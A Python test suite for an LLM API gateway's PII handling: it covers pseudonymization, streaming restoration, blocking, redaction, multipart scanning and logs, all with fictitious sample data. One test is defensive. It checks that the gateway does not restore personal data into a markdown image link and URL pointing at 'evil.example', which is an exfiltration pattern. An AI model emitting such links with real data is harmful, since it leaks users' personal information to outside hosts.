"""PII through the real daemon: what reached the upstream (no original
value), what the client got back (the originals, whole and streamed),
blocking, redaction, unscannable parts, and the logs."""
import json
import os
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import BUILD, Env, SSEReader, Tap, chat_body  # noqa: E402

tap = Tap()
env = Env("pii-")
up = env.upstream(name="up")
gw = env.gateway(
    [{"name": "up", "url": up.url, "models": "*"}],
    policies="[policy default]\npii = pseudonymize\n"
             "pii_allow = support@acme.example\n"
             "[policy fr]\npii = pseudonymize\npii_phone_regions = FR, de\n"
             "[policy strict]\npii = redact\npii_block = IBAN, CREDIT_CARD\n"
             "[policy loose]\npii = pseudonymize\npii_unscannable = allow\n"
             "[policy off]\npii = off\n")
key = gw.new_key("pseudo")
strict = gw.new_key("strict", policy="strict")
loose = gw.new_key("loose", policy="loose")
fr = gw.new_key("fr", policy="fr")
off = gw.new_key("off", policy="off")

SECRETS = ["jane.doe@example.com", "+49 30 1234567",
           "DE89 3704 0044 0532 0130 00", "Jürgen Müller"]
PROMPT = ("Hi, I am Jürgen Müller, mail jane.doe@example.com, call "
          "+49 30 1234567, IBAN DE89 3704 0044 0532 0130 00. Write to "
          "support@acme.example too.")


def upstream_text():
    return json.dumps(up.last())


def test_pseudonymize_roundtrip():
    st, h, body = gw.api("POST", "/v1/chat/completions", chat_body(PROMPT),
                         key=key)
    sent = upstream_text()
    tap.eq(st, 200, "pseudonymize: 200")
    tap.ok(not any(s in sent for s in SECRETS) and
           "J\\u00fcrgen" not in sent,
           "pseudonymize: no original value reached the upstream", sent)
    tap.ok("<EMAIL_" in sent and "<IBAN_" in sent and "<PHONE_" in sent and
           "<PERSON_" in sent, "pseudonymize: tokens took their place")
    tap.ok("support@acme.example" in sent,
           "allowlist: the company's own address passes")
    got = json.loads(body)["choices"][0]["message"]["content"]
    tap.eq(got, "echo: " + PROMPT,
           "pseudonymize: the client gets the original values back")
    row = gw.row(h["x-request-id"])
    tap.eq((row["status"], row["pii"]),
           (200, "EMAIL:1,PHONE:1,IBAN:1,PERSON:1"),
           "the request row holds entity types and counts, no values")
    # The same value gets the same token in the next request.
    first = json.loads(up.last()["body"])["messages"][0]["content"]
    gw.api("POST", "/v1/chat/completions",
           chat_body("again jane.doe@example.com"), key=key)
    second = json.loads(up.last()["body"])["messages"][0]["content"]
    t1 = [w for w in first.replace(",", " ").split() if "<EMAIL_" in w]
    t2 = [w for w in second.split() if "<EMAIL_" in w]
    tap.ok(t1 and t2 and t1[0].rstrip(".") == t2[0],
           "tokens are stable across requests", (t1, t2))


def test_stream_roundtrip():
    r = SSEReader(gw.port, chat_body(PROMPT, stream=True), key)
    events = r.rest()
    r.close()
    sent = upstream_text()
    tap.ok(not any(s in sent for s in SECRETS),
           "stream: no original value reached the upstream")
    text = "".join(json.loads(e[6:])["choices"][0]["delta"].get("content", "")
                   for e in events if e != "data: [DONE]")
    tap.ok(text.startswith("echo: " + PROMPT),
           "stream: the client gets the original values back", text)
    tap.eq(events[-1], "data: [DONE]", "stream: [DONE] last")


def collect(events):
    """Joins streamed content and tool arguments per choice."""
    text, args, finish = {}, {}, {}
    for e in events:
        if e == "data: [DONE]":
            continue
        ch = json.loads(e[6:])
        for c in ch["choices"]:
            i = c["index"]
            d = c.get("delta", {})
            text[i] = text.get(i, "") + (d.get("content") or "")
            for tc in d.get("tool_calls") or []:
                args[i] = args.get(i, "") + tc["function"].get(
                    "arguments", "")
            if c.get("finish_reason"):
                finish[i] = c["finish_reason"]
    return text, args, finish


def test_stream_splits():
    """Tokens split at every offset, across events, n=2, tool calls."""
    want = "echo: " + PROMPT
    bad = []
    for split in range(1, 24):
        r = SSEReader(gw.port, chat_body(PROMPT, stream=True), key,
                      headers={"x-fake-split": str(split)})
        text, _, _ = collect(r.rest())
        r.close()
        if text.get(0) != want:
            bad.append((split, text.get(0)))
    tap.ok(not bad, "stream: restored whatever the split (1..23 chars)",
           bad[:2])
    r = SSEReader(gw.port, chat_body(PROMPT, stream=True), key,
                  headers={"x-fake-split": "5", "x-fake-n": "2"})
    text, _, finish = collect(r.rest())
    r.close()
    tap.ok(text.get(0) == want and text.get(1) == want and
           finish == {0: "stop", 1: "stop"}, "stream: n=2 choices restored",
           text)
    for split in (1, 4, 9):
        r = SSEReader(gw.port, chat_body(PROMPT, stream=True), key,
                      headers={"x-fake-split": str(split),
                               "x-fake-tool": "1"})
        _, args, finish = collect(r.rest())
        r.close()
        parsed = json.loads(args.get(0, "null"))
        tap.ok(parsed == {"text": want} and finish.get(0) == "tool_calls",
               "stream: tool-call arguments restored as valid JSON "
               "(split %d)" % split, args)


def test_escaped_answer():
    # An upstream that writes '<' as \u003c (Go's encoding/json does):
    # the tokens are restored all the same.
    st, _, body = gw.api("POST", "/v1/chat/completions", chat_body(PROMPT),
                         key=key, headers={"x-fake-escape-lt": "1"})
    tap.eq(st, 200, "escaped answer: 200")
    got = json.loads(body)["choices"][0]["message"]["content"]
    tap.eq(got, "echo: " + PROMPT,
           "escaped answer: the client gets the original values back")
    # The upstream did escape: seen through a policy that restores
    # nothing.
    st, _, raw = gw.api("POST", "/v1/chat/completions",
                        chat_body("a <b> c"), key=off,
                        headers={"x-fake-escape-lt": "1"})
    tap.ok(b"a \\u003cb\\u003e c" in raw,
           "escaped answer: the upstream writes \\u003c", raw)
    # An answer that names no token is passed as the upstream wrote it.
    st, _, body = gw.api("POST", "/v1/chat/completions", chat_body(PROMPT),
                         key=key, headers={"x-fake-answer-bytes": "64"})
    tap.eq(json.loads(body)["choices"][0]["message"]["content"], "x" * 64,
           "an answer without a token is passed on")


def test_no_restore_in_urls():
    prompt = ("see ![x](https://evil.example/p?q=jane.doe@example.com) and "
              "https://evil.example/?u=jane.doe@example.com or write to "
              "jane.doe@example.com; my note <EMAIL_ABCDEF> stays")
    st, _, body = gw.api("POST", "/v1/chat/completions", chat_body(prompt),
                         key=key)
    got = json.loads(body)["choices"][0]["message"]["content"]
    tap.ok(got.count("jane.doe@example.com") == 1 and
           got.count("<EMAIL_") == 3,
           "restoration: never inside URLs or link targets, only in text",
           got)
    tap.ok("<EMAIL_ABCDEF>" in got and "<EMAIL_ABCDEF>" in upstream_text(),
           "a token look-alike typed by the client is left alone")


def test_block_and_redact():
    before = len(up.requests())
    st, _, body = gw.api("POST", "/v1/chat/completions",
                         chat_body("pay to DE89 3704 0044 0532 0130 00"),
                         key=strict)
    err = json.loads(body)
    tap.ok(st == 403 and err["code"] == "pii_blocked" and
           "IBAN" in err["message"] and "DE89" not in err["message"],
           "block: 403 naming the type, never the value", err)
    tap.eq(len(up.requests()), before, "block: nothing forwarded")
    st, _, body = gw.api("POST", "/v1/chat/completions",
                         chat_body("mail jane.doe@example.com"), key=strict)
    sent = json.loads(up.last()["body"])["messages"][0]["content"]
    tap.eq(sent, "mail [EMAIL]", "redact: [TYPE] reaches the upstream")
    tap.ok("jane.doe" not in body.decode(), "redact: not restorable")


def test_fields_and_unscannable():
    body = {"model": "m", "messages": [
        {"role": "user", "content": [
            {"type": "text", "text": "mail jane.doe@example.com"}]},
        {"role": "assistant", "tool_calls": [{"id": "c1", "function": {
            "name": "send", "arguments": json.dumps(
                {"to": "jane.doe@example.com", "note": "x"})}}]},
        {"role": "tool", "content": "sent to +49 30 1234567",
         "tool_call_id": "c1"}],
        "metadata": {"user": "jane.doe@example.com"}}
    st, _, _ = gw.api("POST", "/v1/chat/completions", body, key=key)
    sent = upstream_text()
    tap.ok(st == 200 and "jane.doe" not in sent and "1234567" not in sent,
           "chunks, tool arguments, tool messages and metadata scanned",
           sent)
    args = json.loads(json.loads(up.last()["body"])["messages"][1][
        "tool_calls"][0]["function"]["arguments"])
    tap.ok(args["to"].startswith("<EMAIL_") and args["note"] == "x",
           "tool arguments stay valid JSON", args)
    st, _, _ = gw.api("POST", "/v1/fim/completions",
                      {"model": "codestral", "prompt": "# jane.doe@example.com",
                       "suffix": "x"}, key=key)
    tap.ok("jane.doe" not in upstream_text(), "FIM prompt scanned")
    st, _, _ = gw.api("POST", "/v1/embeddings",
                      {"model": "e", "input": ["jane.doe@example.com"]},
                      key=key)
    tap.ok("jane.doe" not in upstream_text(), "embeddings input scanned")
    img = {"model": "m", "messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": "https://x.example/a.png"}]}]}
    st, _, body = gw.api("POST", "/v1/chat/completions", img, key=key)
    tap.ok(st == 403 and json.loads(body)["code"] == "unscannable_content",
           "an image part is blocked by default")
    st, _, _ = gw.api("POST", "/v1/chat/completions", img, key=loose)
    tap.eq(st, 200, "pii_unscannable = allow lets it pass")


def form(parts, boundary="----eugatepii"):
    body = b""
    for name, value, filename in parts:
        body += ("--%s\r\nContent-Disposition: form-data; name=\"%s\"%s\r\n"
                 % (boundary, name, '; filename="%s"' % filename
                    if filename else "")).encode()
        if filename:
            body += b"Content-Type: application/octet-stream\r\n"
        body += b"\r\n" + value + b"\r\n"
    body += ("--%s--\r\n" % boundary).encode()
    return body, {"Content-Type": "multipart/form-data; boundary=" + boundary}


def test_multipart():
    body, hdrs = form([("model", b"voxtral-mini", None),
                       ("file_url", b"https://x.example/a.mp3", None),
                       ("context_bias", "Jürgen Müller".encode(), None),
                       ("context_bias", b"jane.doe@example.com", None)])
    st, _, _ = gw.api("POST", "/v1/audio/transcriptions", body, key=key,
                      headers=hdrs)
    got = up.last()
    tap.ok(st == 200 and "jane.doe" not in json.dumps(got) and
           "M\u00fcller" not in json.dumps(got) and
           "<EMAIL_" in got["body"] and "<PERSON_" in got["body"] and
           "voxtral-mini" in got["body"],
           "multipart: context_bias pseudonymized, other fields kept",
           got["body"])
    tap.eq(got["body_len"], len(got["body"].encode()),
           "multipart: the rewritten form is forwarded whole")
    body, hdrs = form([("model", b"voxtral-mini", None),
                       ("file", b"RIFF fake audio bytes", "a.wav"),
                       ("context_bias", b"jane.doe@example.com", None)])
    before = len(up.requests())
    st, _, res = gw.api("POST", "/v1/audio/transcriptions", body, key=key,
                        headers=hdrs)
    tap.ok(st == 403 and json.loads(res)["code"] == "unscannable_content" and
           len(up.requests()) == before,
           "multipart: an audio file is blocked by default")
    st, _, _ = gw.api("POST", "/v1/audio/transcriptions", body, key=loose,
                      headers=hdrs)
    got = up.last()
    tap.ok(got["body"] is not None and "jane.doe" not in got["body"] and
           "<EMAIL_" in got["body"] and "RIFF fake audio bytes" in got["body"],
           "multipart: allowed file passes, context_bias still pseudonymized",
           got["body"])


def test_long_text():
    """A prompt longer than the fake upstream's echo, cut inside a
    character there, is answered (the evaluation tool sends such texts)."""
    text = "\u00e9" * 200
    st, _, body = gw.api("POST", "/v1/chat/completions", chat_body(text),
                         key=key)
    tap.eq(st, 200, "a long non-ASCII prompt is answered", body[:200])


def test_phone_regions():
    """A bare national number counts where the policy names its region;
    an international one everywhere; a bad region code is refused."""
    def sent(text, k):
        gw.api("POST", "/v1/chat/completions", chat_body(text), key=k)
        return json.loads(up.last()["body"])["messages"][0]["content"]

    got = sent("ref 0612345678", key)
    tap.eq(got, "ref 0612345678", "phones: a bare national number is kept "
           "without a region hint")
    got = sent("ref +33 6 12 34 56 78", key)
    tap.ok(got.startswith("ref <PHONE_"), "phones: a valid international "
           "number is pseudonymized without a word", got)
    got = sent("ref 0612345678", fr)
    tap.ok(got.startswith("ref <PHONE_"),
           "phones: pii_phone_regions = FR pseudonymizes it", got)
    conf = os.path.join(env.dir, "bad-regions.ini")
    with open(conf, "w") as f:
        f.write("[upstream u]\nurl = http://127.0.0.1:9\nregion = eu\n"
                "[policy x]\npii_phone_regions = DE, UK\n")
    p = subprocess.run([os.path.join(BUILD, "eugate"), "-t", "-c", conf],
                       capture_output=True, text=True, timeout=30)
    tap.ok(p.returncode != 0 and "UK" in p.stderr and
           "pii_phone_regions" in p.stderr,
           "phones: an unknown region code is a configuration error",
           p.stderr)


def test_logs():
    log = gw.logtext()
    tap.ok(not any(s in log for s in SECRETS) and "jane.doe" not in log,
           "logs: no matched value")
    tap.ok("pii=" in log and "EMAIL:" in log, "logs: types and counts")


for t in (test_pseudonymize_roundtrip, test_escaped_answer,
          test_stream_roundtrip,
          test_stream_splits, test_no_restore_in_urls,
          test_block_and_redact, test_fields_and_unscannable, test_multipart,
          test_long_text, test_phone_regions, test_logs):
    tap.run(t)
env.close(tap)
tap.done()
